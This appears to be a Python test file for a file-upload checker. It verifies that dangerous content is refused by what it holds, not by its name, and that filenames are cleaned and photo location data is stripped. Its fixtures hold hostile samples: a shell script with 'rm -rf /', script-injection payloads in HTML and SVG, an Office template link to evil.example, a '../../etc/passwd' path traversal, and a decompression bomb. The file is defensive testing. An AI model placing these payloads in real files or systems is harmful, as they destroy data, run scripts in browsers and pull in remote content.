"""What a file holds decides whether it is taken; its name decides nothing."""

from __future__ import annotations

import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from typing import Any

import pytest

from service.evidence.examining import examined
from tests.evidence.files import PDF, TEXT, jpeg, office, png
from tests.support.world import World
from workflows.engine import Incomplete

OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
LINK = '<Relationship Type="x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
HARMFUL: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", "empty"),
    "more than 10 MiB": (b"a" * (10 * 1024 * 1024 + 1), "larger than 10 MiB"),
    "a program named .pdf": (b"MZ\x90\x00" + b"\0" * 100, "not taken"),
    "a page named .txt": (b"<!DOCTYPE html><script>alert(1)</script>", "not taken"),
    "a drawing with a script": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "not taken"),
    "a shell script": (b"#!/bin/sh\nrm -rf /\n", "not taken"),
    "half a PDF": (b"%PDF-1.4\n1 0 obj", "damaged"),
    "a PDF with a script": (PDF.replace(b"/Catalog", b"/Catalog /JavaScript (x)"), "a script"),
    "half a picture": (png()[:-14], "damaged"),
    "half a photograph": (jpeg()[:-2], "damaged"),
    "a workbook with macros": (office("xl/workbook.xml", **{"xl/vbaProject.bin": "x"}), "macros"),
    "a document that loads a template": (office(**{"word/_rels/settings.xml.rels": LINK}), "from elsewhere"),
    "a part that leads out": (office(**{"../../etc/passwd": "x"}), "lead out"),
    "an archive": (office("readme.md"), "neither"),
    "a bomb": (office(word__media=b"\0" * 30_000_000), "far more than its size"),
    "an old document": (OLD, "older kind"),
}  # fmt: skip


@pytest.mark.parametrize("what", HARMFUL)
def test_what_could_do_harm_is_refused_with_what_to_do(what: str, world: World) -> None:
    content, sentence = HARMFUL[what]
    with pytest.raises(Incomplete) as refused:
        examined(content, "harmless.pdf")
    assert sentence in refused.value.fields["file"]


def test_each_kind_is_told_by_what_it_holds_and_is_named_after_it(world: World) -> None:
    made = {"pdf": PDF, "png": png(), "jpg": jpeg(), "docx": office(), "xlsx": office("xl/workbook.xml"), "txt": TEXT}
    assert {kind: examined(content, "../../a\u202ename.exe").kind for kind, content in made.items()} == {
        kind: kind for kind in made
    }
    assert examined(PDF, "C:\\photos\\visit.exe").name == "visit.pdf"
    assert len(examined(PDF, "x" * 5_000).name) <= 120


def test_pictures_lose_where_and_with_what_they_were_taken(world: World) -> None:
    photograph = examined(jpeg(), "a.jpg").content
    assert b"GPS" not in photograph and b"somebody" not in photograph
    assert photograph.endswith(b"\x12\xff\x00\x34\xff\xd0\x56\xff\xd9")
    drawn = examined(png((b"eXIf", b"GPS 51.5N"), (b"tEXt", b"Author\0Pat")) + b"GPS behind", "a.png").content
    assert drawn == png()
    assert examined(photograph, "a.jpg").content == photograph


class Clamd(socketserver.BaseRequestHandler):
    """Speaks as much of clamd's protocol as INSTREAM needs; finds what is named a virus."""

    def handle(self) -> None:
        assert self._exactly(10) == b"zINSTREAM\0"
        content = b""
        while size := int.from_bytes(self._exactly(4)):
            content += self._exactly(size)
        self.request.sendall(b"stream: Test FOUND\0" if b"a virus" in content else b"stream: OK\0")

    def _exactly(self, size: int) -> bytes:
        data = b""
        while len(data) < size:
            data += self.request.recv(size - len(data))
        return data


@contextmanager
def clamd(world: World) -> Iterator[Any]:
    """A scanner on this machine, and the service told where it is."""
    context = world.context
    before = context.settings
    with socketserver.TCPServer(("127.0.0.1", 0), Clamd) as server:
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        context.settings = replace(before, clamd_url=f"tcp://127.0.0.1:{server.server_address[1]}")
        try:
            yield server
        finally:
            context.settings = before
            server.shutdown()


def test_a_scanner_is_asked_and_while_it_is_away_nothing_is_taken(world: World) -> None:
    with clamd(world) as server:
        assert examined(TEXT * 3000, "a.txt").kind == "txt"
        with pytest.raises(Incomplete) as refused:
            examined(TEXT + b"a virus", "a.txt")
        assert "found something harmful" in refused.value.fields["file"]
        server.shutdown()
        server.server_close()
        with pytest.raises(Incomplete) as refused:
            examined(TEXT, "a.txt")
        assert "cannot be checked for viruses just now" in refused.value.fields["file"]
